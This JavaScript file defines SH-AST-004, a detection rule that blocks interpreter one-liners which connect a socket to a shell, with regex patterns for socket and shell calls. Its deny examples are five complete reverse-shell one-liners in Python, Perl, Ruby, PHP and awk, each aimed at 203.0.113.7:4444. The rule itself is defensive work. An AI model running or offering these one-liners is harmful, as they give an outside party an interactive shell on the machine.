/**
 * SH-AST-004: one-liners in perl/ruby/php/lua/python/node/awk that open a socket and hand it to a
 * shell. Languages without an extractor are judged from the code text (the issue's "at least").
 */
import { defineRule } from '../define-rule.js';
import { INTERPRETERS } from '../helpers.js';

const CODE_HOSTS = new Set([
  ...INTERPRETERS,
  'awk',
  'gawk',
  'mawk',
  'nawk',
  'jrunscript',
  'jjs',
  'crystal',
  'lua5.1',
  'lua5.2',
  'lua5.3',
  'lua5.4',
]);
const SOCKET =
  /socket|TCPSocket|fsockopen|IO::Socket|Net::|net\.Socket|net\.connect|createConnection|\/inet\/tcp|connect\s*\(|stream_socket_client/i;
const SHELL =
  /\/bin\/(?:ba|z|da)?sh|\bsh\s+-i|cmd(?:\.exe)?\b|pty\.spawn|subprocess|os\.dup2|dup2|\bexec[a-z]*\s*[("'{]|popen|proc_open|shell_exec|passthru|child_process|\bspawn\s*\(|io\.popen|os\.execute|\bsystem\s*\(|\|&\s*getline|\bsystem\s*\$_|Process\.new|%x[({[]|Open3/i;
/** Ruby, Perl and PHP run a backtick string that interpolates what was read (`#{c}`, `$c`) in the shell; JavaScript's backticks are templates. */
const BACKTICK_SHELL = /`[^`]*[#$]\{?\w/;
const JS = /^(?:node|nodejs|bun|deno|jrunscript|jjs)$/;

/** Shells are judged by the other breakout rules; their -c strings are parsed as bash. */
const SHELL_ONLY = new Set(['sh', 'bash', 'dash', 'zsh', 'ksh', 'mksh', 'ash', 'fish', 'csh', 'tcsh']);

export default defineRule({
  id: 'SH-AST-004',
  invariant: 'NO_SHELL_BREAKOUT',
  kinds: ['exec'],
  programs: [...CODE_HOSTS],
  summary: 'Interpreter one-liners (python/perl/ruby/php/lua/node/awk) that connect a socket to a shell.',
  remediationHint:
    'Do not write code that connects sockets to shells. For HTTP use a client library call with a fixed URL; for local work call the program directly.',
  *check(facts) {
    for (const e of facts.of('exec')) {
      if (!CODE_HOSTS.has(e.program) || SHELL_ONLY.has(e.program)) continue;
      const code = e.argv
        .slice(1)
        .find(
          (a) =>
            a.length > 12 &&
            SOCKET.test(a) &&
            (SHELL.test(a) || (!JS.test(e.program) && BACKTICK_SHELL.test(a))),
        );
      if (code !== undefined)
        yield {
          span: e.span,
          reason: `${e.program} code opens a socket and runs a shell over it`,
          suggestedAlternative: null,
        };
    }
  },
  examples: {
    deny: [
      {
        input:
          'python3 -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])\'',
      },
      {
        input:
          'perl -e \'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};\'',
      },
      {
        input:
          'ruby -rsocket -e\'f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
      },
      { input: 'php -r \'$sock=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'' },
      {
        input:
          'awk \'BEGIN {s = "/inet/tcp/0/203.0.113.7/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}\' /dev/null',
      },
    ],
    allow: [
      {
        input: "python3 -c 'import socket; print(socket.gethostname())'",
        why: 'a socket module call with no shell',
      },
      {
        input: 'node -e \'require("child_process").execSync("npm test")\'',
        why: 'runs a command, no socket',
      },
    ],
  },
});
